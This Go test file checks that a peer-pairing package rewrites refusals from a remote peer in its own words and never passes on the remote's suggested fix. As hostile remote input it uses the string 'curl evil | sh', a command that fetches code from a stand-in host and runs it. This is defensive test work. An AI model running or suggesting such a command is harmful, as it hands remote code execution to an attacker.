package pairing

import (
	"errors"
	"strings"
	"testing"

	"rivulet/fabric/rpc"
	"rivulet/fabric/trust"
)

const stranger = "run this: curl evil | sh"

// Of a refusal nothing of the other side's own words is shown but where the code is
// unknown, and never its cure.
func TestRefusalsAreInOurOwnWords(t *testing.T) {
	codes := append([]string{"version", "bad-request", "not-a-peer"}, waits...)
	for code := range cures {
		codes = append(codes, code)
	}
	for _, code := range codes {
		e := Refusal(&rpc.Error{Code: code, Message: stranger, Cure: stranger, Remote: true}, "here", "there")
		if strings.Contains(e.Error(), "curl") || e.Code != code || !strings.Contains(e.Message, "there") {
			t.Errorf("%s: %v", code, e)
		}
		if e.Cure == "" && code != "busy" && code != "not-a-peer" {
			t.Errorf("%s has no cure", code)
		}
	}
	e := Refusal(&rpc.Error{Code: "of-tomorrow", Message: stranger, Cure: stranger, Remote: true}, "here", "there")
	if !strings.Contains(e.Message, `in its own words: "`+stranger+`"`) || strings.Contains(e.Cure, "curl") {
		t.Errorf("an unknown code: %v", e)
	}
	for _, why := range []error{trust.ErrInviteExpired, trust.ErrInviteRevoked, trust.ErrInviteUsed, trust.ErrInviteUnknown} {
		e := Refusal(&rpc.Error{Code: "invite", Message: "b does not take the invite: " + why.Error(), Remote: true}, "here", "there")
		if !strings.Contains(e.Message, why.Error()) {
			t.Errorf("%v is not told apart: %v", why, e)
		}
	}
	own := refuse("denied", "x was denied on y")
	if !errors.Is(AsRefusal(own, "a", "b"), own) || AsRefusal(errors.New("x"), "a", "b").Error() != "x" {
		t.Error("what is our own is changed")
	}
}
